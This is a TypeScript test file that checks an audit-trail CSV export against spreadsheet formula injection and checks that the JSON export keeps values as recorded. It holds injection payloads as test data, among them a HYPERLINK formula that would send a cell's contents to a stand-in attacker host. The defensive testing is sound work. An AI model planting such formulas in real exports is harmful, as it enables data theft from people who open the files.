/** The audit trail's exports: CSV that a spreadsheet opens as text, JSON exactly as recorded. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { startTestApp } from '../test-support/harness.ts';
import { signInToConsole } from '../test-support/team.ts';
import { appendAudit } from '../onboarding/index.ts';
import { csvCell } from './records-routes.ts';

test('a CSV cell that a spreadsheet would run as a formula is made text with a leading quote', () => {
  for (const formula of ['=HYPERLINK("https://evil.example","Click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '\0=1']) {
    assert.equal(csvCell(formula), `"'${formula.replaceAll('"', '""')}"`, JSON.stringify(formula));
  }
  assert.equal(csvCell('dm@nhs.example'), '"dm@nhs.example"', 'an @ inside is harmless');
  assert.equal(csvCell('say "hi", then=1'), '"say ""hi"", then=1"', 'quotes doubled, separators inside the quotes');
  assert.equal(csvCell(42), '"42"');
  assert.equal(csvCell(''), '""');
});

test('the audit CSV export neutralises a formula someone wrote into the trail; the JSON export keeps it as it was', async () => {
  const app = await startTestApp('sqlite');
  try {
    // What an unauthenticated console sign-in with this "email" records (team.ts: console.sign_in_failed).
    const email = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
    await appendAudit(app.database.db, { actor: email, action: 'console.sign_in_failed', subject: email, details: { reason: 'email' } });
    const { b } = await signInToConsole(app, 'auditor@nhs.example', 'team_admin');
    const res = await app.fetch('http://localhost:3000/console/audit?format=csv', {
      headers: { cookie: b.cookieHeader(new URL('http://localhost:3000/console/audit')) },
    });
    assert.match(res.headers.get('content-type') ?? '', /^text\/csv/);
    const csv = { text: await res.text() };
    const row = csv.text.split('\n').find((line) => line.includes('console.sign_in_failed'))!;
    assert.ok(row.includes(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","console.sign_in_failed","'=HYPERLINK(`), row);
    assert.doesNotMatch(csv.text, /(^|,)"[=+\-@\t\r]/m, 'no cell starts with a formula character');
    const json = JSON.parse((await b.get('/console/audit?format=json')).text) as { entries: { actor: string; action: string }[] };
    assert.equal(json.entries.find((e) => e.action === 'console.sign_in_failed')?.actor, email, 'JSON carries the value as recorded');
  } finally {
    await app.stop();
  }
});
